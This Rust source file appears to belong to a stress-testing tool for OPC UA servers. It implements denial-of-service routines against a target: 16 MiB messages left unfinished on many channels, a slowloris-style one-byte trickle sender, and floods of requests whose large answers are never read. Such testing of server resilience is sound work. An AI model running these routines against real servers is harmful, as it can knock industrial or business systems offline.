//! Unfinished messages, and answers that the client does not read.

use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::{Duration, Instant};

use takt_tcp::{ClientConnection, ClientConnectionConfig, ClientEvent};
use takt_ua::structures::{GetEndpointsRequest, ReadRequest, ReadValueId};
use takt_ua::{NodeId, ids};

use crate::channel::{Channel, Lost, PATIENCE, Session, Way};
use crate::request;
use crate::target::Attacker;

/// Longest wait of a socket for a server that does not read.
const SHORT: Duration = Duration::from_millis(200);

/// Bytes of the longest message that a server accepts, less the part that is left out of it.
pub(crate) const LONGEST: usize = (16 << 20) - (64 << 10);

/// A socket with the state of its SecureChannel, for bytes that a client of the library would not send.
pub(crate) struct RawChannel {
    socket: TcpStream,
    machine: ClientConnection,
}

impl RawChannel {
    pub(crate) fn open(attacker: &mut Attacker<'_>) -> Result<Self, Lost> {
        Self::open_with(attacker, ClientConnectionConfig::default())
    }

    pub(crate) fn open_with(
        attacker: &mut Attacker<'_>,
        config: ClientConnectionConfig,
    ) -> Result<Self, Lost> {
        let socket = connect(attacker)?;
        let url = attacker.endpoints.tcp.to_string();
        let machine = ClientConnection::new(config, &url);
        let mut channel = Self { socket, machine };
        channel.socket.set_read_timeout(Some(PATIENCE))?;
        let lost = |error: takt_tcp::TransportError| std::io::Error::other(error.to_string());
        loop {
            channel.flush()?;
            let count = channel.socket.read(channel.machine.receive_space())?;
            if count == 0 {
                return Err(std::io::Error::from(std::io::ErrorKind::ConnectionReset).into());
            }
            channel.machine.received(count);
            while let Some(event) = channel.machine.poll(Instant::now()).map_err(lost)? {
                if matches!(event, ClientEvent::Opened) {
                    channel.socket.set_write_timeout(Some(SHORT))?;
                    return Ok(channel);
                }
            }
        }
    }

    fn flush(&mut self) -> std::io::Result<()> {
        while !self.machine.transmit().is_empty() {
            let count = self.socket.write(self.machine.transmit())?;
            self.machine.transmitted(count);
        }
        Ok(())
    }

    /// Returns the chunks of a message with this body, headers included. They are not sent.
    fn chunks(&mut self, body: &[u8]) -> Vec<u8> {
        // After an encoding error nothing is sent.
        let _ = self.machine.request(|encoder| encoder.bytes(body));
        self.machine.transmit().to_vec()
    }

    /// Returns the chunks of a message, which count as sent.
    pub(crate) fn take_chunks(&mut self, body: &[u8]) -> Vec<u8> {
        let chunks = self.chunks(body);
        self.machine.transmitted(chunks.len());
        chunks
    }

    pub(crate) fn send(&mut self, bytes: &[u8]) -> Result<(), Lost> {
        Ok(self.socket.write_all(bytes)?)
    }

    /// Asks for a new token, as a client whose clock shows `now`.
    pub(crate) fn send_renewal(&mut self, now: Instant) -> Result<(), Lost> {
        let lost = |error: takt_tcp::TransportError| std::io::Error::other(error.to_string());
        self.machine.handle_timeout(now).map_err(lost)?;
        Ok(self.flush()?)
    }

    /// Waits for the new token.
    pub(crate) fn await_renewal(&mut self, now: Instant) -> Result<(), Lost> {
        let lost = |error: takt_tcp::TransportError| std::io::Error::other(error.to_string());
        while self.machine.next_timeout().is_none_or(|at| at <= now) {
            let count = self.socket.read(self.machine.receive_space())?;
            if count == 0 {
                return Err(std::io::Error::from(std::io::ErrorKind::ConnectionReset).into());
            }
            self.machine.received(count);
            while self.machine.poll(now).map_err(lost)?.is_some() {}
        }
        Ok(())
    }

    /// Waits until the server has closed the connection.
    pub(crate) fn await_end(mut self, patience: Duration) -> Result<(), Lost> {
        self.socket.set_read_timeout(Some(patience))?;
        let mut bytes = [0; 4096];
        loop {
            match self.socket.read(&mut bytes) {
                Ok(0) => return Ok(()),
                Ok(_) => {}
                Err(error) if error.kind() == std::io::ErrorKind::ConnectionReset => return Ok(()),
                Err(error) => return Err(error.into()),
            }
        }
    }
}

/// Opens a TCP connection without a SecureChannel.
pub(crate) fn connect(attacker: &mut Attacker<'_>) -> Result<TcpStream, Lost> {
    let addresses = attacker.endpoints.tcp.resolve()?;
    let address = addresses
        .first()
        .ok_or(std::io::ErrorKind::AddrNotAvailable)
        .map_err(std::io::Error::from)?;
    let socket = TcpStream::connect_timeout(address, PATIENCE)?;
    socket.set_write_timeout(Some(SHORT))?;
    attacker.tally.connections += 1;
    Ok(socket)
}

/// Sends 240 messages of 16 MiB without their last chunk, each over a channel of its own without a Session.
pub(crate) fn unfinished(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let body = vec![0; LONGEST];
    let mut held = Vec::new();
    while attacker.goes_on() {
        if held.len() >= attacker.count(240) {
            attacker.hold();
            break;
        }
        match RawChannel::open(attacker) {
            Ok(mut channel) => {
                let chunks = channel.chunks(&body);
                let all = chunks.len().saturating_sub(1 << 16);
                let sent = channel
                    .socket
                    .write_all(chunks.get(..all).unwrap_or_default());
                attacker.tally.messages += 1;
                if let Err(error) = sent {
                    attacker.refused(error);
                }
                // Only the socket is kept, not the encoded message.
                held.push(channel.socket);
            }
            Err(lost) => attacker.refused(lost),
        }
    }
    Ok(())
}

/// Sends 200 messages very slowly: the first chunk almost completely, then one byte now and then. Their chunks do not end.
pub(crate) fn slow(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let mut held: Vec<(TcpStream, Vec<u8>)> = Vec::new();
    let body = vec![0; 256 << 10];
    let count = attacker.count(200);
    while attacker.goes_on() {
        if held.len() < count {
            match RawChannel::open(attacker) {
                Ok(mut channel) => {
                    let mut chunks = channel.chunks(&body);
                    // The first chunk is sent at once, except for a few bytes.
                    let first: Vec<u8> = chunks.drain(..chunks.len().min(65_000)).collect();
                    if channel.socket.write_all(&first).is_ok() {
                        attacker.tally.messages += 1;
                        held.push((channel.socket, chunks));
                    }
                }
                Err(lost) => attacker.refused(lost),
            }
        } else {
            attacker.wait(Duration::from_millis(100));
        }
        held.retain_mut(|(socket, rest)| {
            let byte = rest.first().copied().unwrap_or_default();
            !rest.is_empty() && socket.write_all(&[byte]).is_ok() && {
                rest.remove(0);
                true
            }
        });
    }
    Ok(())
}

/// Sends requests with much longer answers over channels without a Session, and does not read the answers.
pub(crate) fn unread_without_session(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let request = GetEndpointsRequest {
        request_header: request::header(&NodeId::NULL),
        endpoint_url: attacker.endpoints.tcp.to_string().as_str().into(),
        ..GetEndpointsRequest::default()
    };
    let message = request::message(&request);
    let count = attacker.count(200);
    fill(attacker, count, &message, |attacker| {
        Ok((Channel::open(attacker, Way::Tcp)?, None))
    })
}

/// Does the same with Sessions. Their Reads are answered with many ServerStatus values.
pub(crate) fn unread(attacker: &mut Attacker<'_>) -> Result<(), Lost> {
    let value = ReadValueId {
        node_id: NodeId::numeric(0, ids::SERVER_SERVER_STATUS),
        attribute_id: 13,
        ..ReadValueId::default()
    };
    let nodes = vec![value; attacker.count(10_000)];
    let count = attacker.count(64);
    fill(attacker, count, &[], |attacker| {
        let session = Session::open(attacker, Way::Tcp)?;
        let request = ReadRequest {
            request_header: session.header(),
            nodes_to_read: nodes.clone(),
            ..ReadRequest::default()
        };
        Ok((session.channel, Some(request::message(&request))))
    })
}

/// Opens this number of channels, and sends on each as many requests as the server takes. Each channel may have a message of its
/// own.
fn fill(
    attacker: &mut Attacker<'_>,
    count: usize,
    message: &[u8],
    mut open: impl FnMut(&mut Attacker<'_>) -> Result<(Channel, Option<Vec<u8>>), Lost>,
) -> Result<(), Lost> {
    let mut held = Vec::new();
    while attacker.goes_on() {
        if held.len() >= count {
            attacker.hold();
            break;
        }
        let (mut channel, own) = match open(attacker) {
            Ok(opened) => opened,
            Err(lost) => {
                attacker.refused(lost);
                continue;
            }
        };
        let message = own.as_deref().unwrap_or(message);
        // The number is limited: a server that takes all requests has answered them into the socket's buffer.
        for _ in 0..2000 {
            if !attacker.goes_on() {
                break;
            }
            match channel.send(attacker, message, Duration::from_millis(20)) {
                Ok(true) => {}
                Ok(false) => break,
                Err(lost) => {
                    attacker.refused(lost);
                    break;
                }
            }
        }
        held.push(channel);
    }
    Ok(())
}
